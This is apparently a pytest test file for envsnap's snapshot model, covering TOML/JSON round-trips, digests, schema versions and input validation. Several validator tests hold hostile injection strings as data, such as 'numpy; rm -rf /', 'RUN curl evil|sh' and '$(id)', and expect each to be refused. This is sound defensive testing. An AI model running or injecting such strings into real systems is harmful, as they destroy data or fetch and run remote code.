"""The model, its dict form, validation with key paths, and the TOML writer/reader."""

from __future__ import annotations

import json
import sys
import warnings
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from binding_snapshots import BOUND_SITE, BOUND_SNAP

from envsnap import io
from envsnap.errors import BadInputError, SnapshotFormatError, UnsupportedSchemaError
from envsnap.snapshot import (
    GPU,
    CondaEnv,
    CondaPackage,
    CudaInfo,
    Framework,
    LibraryCopy,
    Meta,
    NvidiaInfo,
    OSInfo,
    Package,
    PackageProblem,
    ProbeStatus,
    PythonEnv,
    Snapshot,
    Source,
    content_digest,
    from_dict,
    to_dict,
)

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib


def sample() -> Snapshot:
    return Snapshot(
        meta=Meta(envsnap_version="0.1.0", captured_at="2026-11-26T10:00:00Z", hostname="gpu-7",
                  elapsed_ms={"python": 12}),
        probes={"python": ProbeStatus(status="ok", found_via="/venv/bin/python"),
                "nvidia": ProbeStatus(status="error", error="nvidia-smi timed out")},
        python=PythonEnv(
            version="3.11.7", implementation="cpython", abi_tag="cp311", prefix="/venv",
            env_kind="venv",
            packages=(
                Package(name="numpy", version="2.1.0", installer="pip", requested=True,
                        tags=("cp311-cp311-manylinux_2_17_x86_64",), native=True),
                Package(name="torch", version="2.5.1+cu121", requires=("numpy",)),
                Package(name="mylib", version="0.1", source=Source(
                    kind="vcs", url="git+https://github.com/o/r.git", vcs="git", commit="abc123")),
                Package(name="weird", version="1.0", installer='q"uote\\back\tx'),
            ),
            problems=(PackageProblem(kind="no-metadata", path="lib/x-1.0.dist-info"),),
        ),
        conda=CondaEnv(prefix="/opt/conda", packages=(
            CondaPackage(name="python", version="3.11.7", build="h2_0", channel="conda-forge"),)),
        os=OSInfo(system="Linux", arch="x86_64", glibc="2.39", orchestrators=("slurm",)),
        nvidia=NvidiaInfo(driver_version="580.159.04", kernel_module_version="580.159.04",
                          cuda_driver_version="13.0",
                          gpus=(GPU(index=0, name="NVIDIA H100 80GB HBM3", compute_capability="9.0",
                                    memory_bytes=85520809984),)),
        cuda=CudaInfo(libraries=(LibraryCopy(library="cudnn", version="9.1.0", path="/x/libcudnn.so.9",
                                             found_via="pip:nvidia-cudnn-cu12"),),
                      declared={"CUDA_VERSION": "12.4.1"}),
        frameworks=(Framework(name="torch", version="2.5.1+cu121", variant="cu121", cuda="12.1"),),
        env={"CUBLAS_WORKSPACE_CONFIG": ":4096:8", "PYTHONHASHSEED": "0"},
    )


def test_round_trip_through_toml_text_is_lossless() -> None:
    snap = sample()
    text = io.dumps(snap)
    assert io.loads(text) == snap
    # The writer's output is real TOML: the reference parser reads the same data back.
    assert tomllib.loads(text) == to_dict(snap)


def test_round_trip_through_json() -> None:
    snap = sample()
    assert io.loads(io.dumps_json(snap)) == snap


def test_one_line_per_package_in_stable_order() -> None:
    text = io.dumps(sample())
    section = text.split("[python.packages]\n", 1)[1].split("\n\n", 1)[0].splitlines()
    assert [line.split(" = ", 1)[0] for line in section] == ["numpy", "torch", "mylib", "weird"]
    assert section[1] == "torch = {version = '2.5.1+cu121', requires = ['numpy']}"


def test_digest_ignores_capture_time_metadata_only() -> None:
    a = sample()
    b = replace(a, meta=replace(a.meta, captured_at="2030-01-01T00:00:00Z", hostname="other"))
    assert a.digest == b.digest
    c = replace(a, env={**a.env, "PYTHONHASHSEED": "1"})
    assert c.digest != a.digest


def test_digest_is_sha256_of_the_canonical_json() -> None:
    # The digest uses CPython's built-in SHA-256 (no OpenSSL start-up): it must equal hashlib's.
    import hashlib
    import json

    data = to_dict(sample())
    content = {k: v for k, v in data.items() if k not in ("meta", "digest")}
    blob = json.dumps(content, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    assert data["digest"] == "sha256:" + hashlib.sha256(blob.encode()).hexdigest()


def test_edited_snapshot_warns() -> None:
    text = io.dumps(sample()).replace("PYTHONHASHSEED = '0'", "PYTHONHASHSEED = '1'")
    with pytest.warns(io.SnapshotEditedWarning, match="edited after capture"):
        io.loads(text)


def test_unedited_snapshot_does_not_warn() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        io.loads(io.dumps(sample()))


def test_a_default_written_out_is_not_an_edit() -> None:
    """A file may spell out a value the model leaves out (an older writer, a hand-written
    ``requested = false``): its content is the same, and it says nothing of an edit."""
    text = io.dumps(sample())
    spelled = text.replace("torch = {version = '2.5.1+cu121',",
                           "torch = {requested = false, version = '2.5.1+cu121',", 1)
    assert spelled != text
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        snap = io.loads(spelled)
    assert snap == sample() and snap.digest == to_dict(sample())["digest"]


def test_a_file_read_intact_keeps_the_digest_it_states() -> None:
    """A newer minor version's key this one does not know stays out of the model, and in the
    file's digest: the snapshot is still the one that digest names (lock headers, image labels,
    show), and a file written from the model states the model's."""
    text = io.dumps(sample()).replace("[meta]", "later = 'a key of a newer minor version'\n[meta]", 1)
    data = tomllib.loads(text)
    data["digest"] = content_digest(data)
    newer = io.loads(json.dumps(data))
    assert newer == sample() and newer.digest == data["digest"] != sample().digest
    rewritten = io.dumps(newer)
    assert f"digest = '{sample().digest}'" in rewritten
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert io.loads(rewritten).digest == sample().digest


def test_the_digest_is_computed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Capture's write and its --if-changed test, lock's headers, a loaded file's summary:
    one hash per snapshot (a loaded file's is the check of the digest it states)."""
    from envsnap import snapshot as model

    hashed: list[int] = []
    real = model.content_digest

    def counting(data: Any) -> str:
        hashed.append(1)
        return real(data)

    monkeypatch.setattr(model, "content_digest", counting)
    monkeypatch.setattr(io, "content_digest", counting)
    snap = sample()
    text = io.dumps(snap)
    assert snap.digest == snap.digest and len(hashed) == 1
    loaded = io.loads(text)
    assert loaded.digest == loaded.digest == snap.digest and len(hashed) == 2


def test_transient_fields_are_never_written() -> None:
    snap = sample()
    assert snap.python is not None
    pkg = replace(snap.python.packages[0], metadata_path="lib/python3.11/site-packages/n.dist-info")
    snap = replace(snap, python=replace(snap.python, packages=(pkg,)))
    assert "metadata_path" not in io.dumps(snap)


def test_unknown_schema_major_is_refused_with_a_clear_message() -> None:
    text = io.dumps(sample()).replace("schema = 2", "schema = 3", 1)
    with pytest.raises(UnsupportedSchemaError, match=r"schema 3 is not supported.*upgrade envsnap"):
        io.loads(text)


def test_schema_1_files_still_load() -> None:
    # Schema 1 recorded requirement names without specifiers: they read as requirements
    # without a specifier, and the file keeps its schema number.
    text = io.dumps(sample()).replace("schema = 2", "schema = 1", 1)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", io.SnapshotEditedWarning)
        snap = io.loads(text)
    assert snap.schema == 1
    assert snap.python is not None and snap.python.package("torch") is not None
    assert snap.python.package("torch").requires == ("numpy",)  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("edit", "key_path"),
    [
        (lambda d: d["python"]["packages"]["numpy"].update(version=3), "python.packages.numpy.version"),
        (lambda d: d["python"]["packages"]["numpy"].update(requested="yes"),
         "python.packages.numpy.requested"),
        (lambda d: d["nvidia"]["gpus"][0].update(index="zero"), "nvidia.gpus[0].index"),
        (lambda d: d["python"].pop("version"), "python.version"),
        (lambda d: d["os"].update(orchestrators="slurm"), "os.orchestrators"),
    ],
)
def test_validation_errors_name_the_key_path(edit, key_path: str) -> None:  # type: ignore[no-untyped-def]
    data = to_dict(sample())
    edit(data)
    with pytest.raises(SnapshotFormatError) as info:
        from_dict(data)
    assert info.value.key_path == key_path
    assert key_path in str(info.value)


@pytest.mark.parametrize(
    "hostile",
    ["numpy; rm -rf /", "a\nRUN curl evil|sh", "pkg$(id)", "`id`", "x'y", "x y"],
)
def test_hostile_package_names_are_refused_at_load(hostile: str) -> None:
    data = to_dict(sample())
    data["python"]["packages"][hostile] = {"version": "1.0"}
    with pytest.raises(SnapshotFormatError, match="unsafe package name"):
        from_dict(data)


@pytest.mark.parametrize("hostile", ["1.0 && id", "1.0\nRUN id", "$(id)", "1.0;id"])
def test_hostile_versions_are_refused(hostile: str) -> None:
    data = to_dict(sample())
    data["python"]["packages"]["numpy"]["version"] = hostile
    with pytest.raises(SnapshotFormatError, match="unsafe version"):
        from_dict(data)


def test_control_characters_in_env_values_are_refused() -> None:
    data = to_dict(sample())
    data["env"]["PYTHONHASHSEED"] = "0\nRUN curl x | sh"
    with pytest.raises(SnapshotFormatError, match=r"unsafe environment variable at 'env.PYTHONHASHSEED'"):
        from_dict(data)


@pytest.mark.parametrize("name", ["A B", "A.B", "A-B", "A\n", "É"])
def test_bad_env_names_are_refused(name: str) -> None:
    data = to_dict(sample())
    data["env"][name] = "1"
    with pytest.raises(SnapshotFormatError, match="unsafe environment variable"):
        from_dict(data)


@pytest.mark.parametrize("value", ["3.20\n", "3.20\r", "3.20\x00"])
def test_a_trailing_newline_does_not_pass_a_validator(value: str) -> None:
    data = to_dict(sample())
    data["python"]["packages"]["numpy"]["version"] = value
    with pytest.raises(SnapshotFormatError, match="unsafe version"):
        from_dict(data)


def test_loaded_snapshots_cannot_be_mutated() -> None:
    import dataclasses

    snap = io.loads(io.dumps(sample()))
    with pytest.raises(dataclasses.FrozenInstanceError):
        snap.env = {}  # type: ignore[misc]
    with pytest.raises(TypeError):
        snap.env["PYTHONHASHSEED"] = "1"  # type: ignore[index]
    with pytest.raises(TypeError):
        snap.probes["python"] = ProbeStatus(status="ok")  # type: ignore[index]
    assert snap.meta is not None and snap.cuda is not None and snap.python is not None
    with pytest.raises(TypeError):
        snap.meta.elapsed_ms["python"] = 0  # type: ignore[index]
    with pytest.raises(TypeError):
        snap.cuda.declared["CUDA_VERSION"] = "1"  # type: ignore[index]
    with pytest.raises(TypeError):
        snap.python.markers["python_version"] = "2.7"  # type: ignore[index]
    with pytest.raises(dataclasses.FrozenInstanceError):
        snap.python.packages[0].version = "0"  # type: ignore[misc]
    assert isinstance(snap.python.packages, tuple) and isinstance(snap.python.packages[0].requires, tuple)
    # A mapping handed to the constructor is copied: changing the caller's dict later changes
    # nothing the digest covers.
    env = {"PYTHONHASHSEED": "0"}
    made = Snapshot(env=env)
    before = made.digest
    env["PYTHONHASHSEED"] = "1"
    assert made.digest == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty file"),
        (b"\xff\xfe\x00garbage", "not UTF-8"),
        (b"schema = 1\n[python\n", "not valid TOML"),
        (b"[meta]\nhostname = 'x'\n", "not an envsnap snapshot"),
        (b"schema = 'one'\n", "expected an integer, got a string at 'schema'"),
    ],
)
def test_load_errors_are_one_line_and_name_the_file(tmp_path: Path, content: bytes, message: str) -> None:
    f = tmp_path / "bad.toml"
    f.write_bytes(content)
    with pytest.raises(BadInputError) as info:
        io.load(f)
    text = str(info.value)
    assert message in text
    assert str(f) in text
    assert "\n" not in text


def test_truncated_snapshot_is_refused(tmp_path: Path) -> None:
    text = io.dumps(sample())
    f = tmp_path / "cut.toml"
    f.write_text(text[: text.index("[python.packages]") + 30])
    with pytest.raises(BadInputError):
        io.load(f)


def test_missing_file_and_directory(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="no such file"):
        io.load(tmp_path / "nope.toml")
    with pytest.raises(BadInputError, match="is a directory"):
        io.load(tmp_path)


def test_atomic_write_keeps_the_old_file_when_writing_fails(tmp_path: Path) -> None:
    target = tmp_path / "snap.toml"
    target.write_text("# envsnap snapshot: old content\n")  # envsnap's own: it may be replaced
    with pytest.raises(RuntimeError), io.atomic_writer(target) as fh:
        fh.write("half of a new")
        raise RuntimeError("crash mid-write")
    assert target.read_text() == "# envsnap snapshot: old content\n"
    assert [p.name for p in tmp_path.iterdir()] == ["snap.toml"]  # no temp file left behind


def test_atomic_write_survives_keyboard_interrupt(tmp_path: Path) -> None:
    target = tmp_path / "snap.toml"
    with pytest.raises(KeyboardInterrupt), io.atomic_writer(target) as fh:
        fh.write("partial")
        raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []


# The reader is tomllib's parser: what TOML forbids is refused, naming the line.


@pytest.mark.parametrize(
    ("edit", "line_hint"),
    [
        # a second line for the same package
        (lambda t: t.replace("[python.packages]\n", '[python.packages]\nnumpy = {version = "0.1"}\n', 1),
         "line"),
        # a second [python.packages] table appended at the end
        (lambda t: t + '\n[python.packages]\nevil = {version = "1.0"}\n', "line"),
        # a repeated [python] header
        (lambda t: t + '\n[python]\nversion = "3.11.7"\n', "line"),
        (lambda t: t.replace("hostname = 'gpu-7'", "hostname = NaN", 1), "line"),
        (lambda t: t.replace("hostname = 'gpu-7'", "hostname = Infinity", 1), "line"),
        (lambda t: t.replace("hostname = 'gpu-7'", 'hostname: "gpu-7"', 1), "line"),
    ],
)
def test_what_toml_forbids_is_refused_with_the_line(edit, line_hint: str) -> None:  # type: ignore[no-untyped-def]
    text = edit(io.dumps(sample()))
    with pytest.raises(SnapshotFormatError, match=r"not valid TOML \(.*\(at line \d+"):
        io.loads(text)


def test_lowercase_nan_is_a_float_where_a_string_belongs() -> None:
    text = io.dumps(sample()).replace("hostname = 'gpu-7'", "hostname = nan", 1)
    with pytest.raises(SnapshotFormatError, match=r"expected a string, got a number at 'meta\.hostname'"):
        io.loads(text)


def test_toml_dates_where_strings_belong_are_refused() -> None:
    text = io.dumps(sample()).replace("captured_at = '2026-11-26T10:00:00Z'",
                                      "captured_at = 2026-11-26T10:00:00Z", 1)
    with pytest.raises(SnapshotFormatError,
                       match=r"expected a string, got a datetime at 'meta\.captured_at'"):
        io.loads(text)


def test_json_snapshots_refuse_duplicate_keys_and_non_finite_numbers() -> None:
    text = io.dumps_json(sample())
    with pytest.raises(SnapshotFormatError, match="duplicate key 'schema'"):
        io.loads(text.replace('{\n', '{\n  "schema": 2,\n', 1))
    with pytest.raises(SnapshotFormatError, match="NaN is not a valid value"):
        io.loads(text.replace('"hostname": "gpu-7"', '"hostname": NaN', 1))


@pytest.mark.parametrize(
    "tricky",
    ['a " = b', 'x = "1", y', "it's", "{curly} [square]", "back\\slash\\", 'q"', "tab\there", "é ☃"],
)
def test_awkward_strings_round_trip(tricky: str) -> None:
    snap = replace(sample(), meta=replace(sample().meta, hostname=tricky))
    assert snap.python is not None
    pkg = replace(snap.python.packages[0], installer=tricky)
    snap = replace(snap, python=replace(snap.python, packages=(pkg,)))
    text = io.dumps(snap)
    assert io.loads(text) == snap


def test_hand_edited_toml_still_loads() -> None:
    text = io.dumps(sample())
    edited = text.replace(
        'numpy = {version = "2.1.0"', "numpy = {'version' = '2.1.0'", 1
    ).replace("[meta]", "[meta]  # edited by hand", 1)
    assert edited != text
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # same content, other spelling: not an edit
        pass_through = io.loads(edited)
    assert pass_through.python == sample().python


def test_nesting_is_bounded_at_max_depth_containers() -> None:
    """32 levels of tables and arrays load (an unknown key is ignored); a 33rd is refused."""
    base = '{"schema": 2, "x": '
    for depth, ok in ((io.MAX_DEPTH - 1, True), (io.MAX_DEPTH, False)):
        text = base + "[" * depth + "]" * depth + "}"  # the document itself is one level
        if ok:
            io.loads(text)
        else:
            with pytest.raises(SnapshotFormatError, match="nested more than 32 levels"):
                io.loads(text)


@pytest.mark.parametrize(("source", "kw", "expected"), [
    (Source(kind="vcs", vcs="git", url="https://g/o/r", commit="1a2b", subdirectory="pkg"), {},
     "git+https://g/o/r@1a2b#subdirectory=pkg"),
    (Source(kind="vcs", vcs="git", url="https://g/o/r", commit="1a2b", subdirectory="pkg"),
     {"subdirectory": False}, "git+https://g/o/r@1a2b"),
    # No commit recorded: the branch or tag asked for, only where a moving reference will do.
    (Source(kind="vcs", url="https://g/o/r", requested_revision="main"), {}, "git+https://g/o/r"),
    (Source(kind="vcs", url="https://g/o/r", requested_revision="main"), {"requested": True},
     "git+https://g/o/r@main"),
    (Source(kind="vcs", vcs="hg", url="hg+https://h/r", commit="ff"), {}, "hg+https://h/r@ff"),
    (Source(kind="vcs"), {}, None),
    (Source(kind="archive", url="https://h/x.whl"), {}, None),
])
def test_the_vcs_reference_of_a_source(source: Source, kw: dict[str, bool],
                                       expected: str | None) -> None:
    assert source.vcs_reference(**kw) == expected


# ---------------------------------------------------------------------------------------------
# Bindings and file identities: written, read back, ignored by old readers (anonymized: test_privacy)

def test_bindings_round_trip_through_toml_and_json() -> None:
    assert io.loads(io.dumps(BOUND_SNAP)) == BOUND_SNAP
    assert io.loads(io.dumps_json(BOUND_SNAP)) == BOUND_SNAP


def test_one_binding_per_line_in_toml() -> None:
    text = io.dumps(BOUND_SNAP)
    lines = [line for line in text.splitlines() if line.startswith("  {soname = ")]
    assert len(lines) == 3


def test_binding_defaults_are_not_written() -> None:
    missing = to_dict(BOUND_SNAP)["frameworks"][0]["bindings"][2]
    assert missing == {"soname": "libcuda.so.1", "via": "missing",
                       "found_by": f"{BOUND_SITE}/torch/lib/libtorch_cuda.so"}


def test_a_reader_before_the_binding_fields_ignores_them() -> None:
    # Schema 2 gained the fields without a bump: a record with keys the reader does not know
    # (written by a newer envsnap) loads, the unknown keys dropped.
    data = to_dict(BOUND_SNAP)
    data["frameworks"][0]["bindings"][0]["from_the_future"] = "x"
    data["cuda"]["libraries"][0]["also_new"] = [1, 2]
    loaded = from_dict(json.loads(json.dumps(data)))
    assert loaded.frameworks == BOUND_SNAP.frameworks and loaded.cuda == BOUND_SNAP.cuda
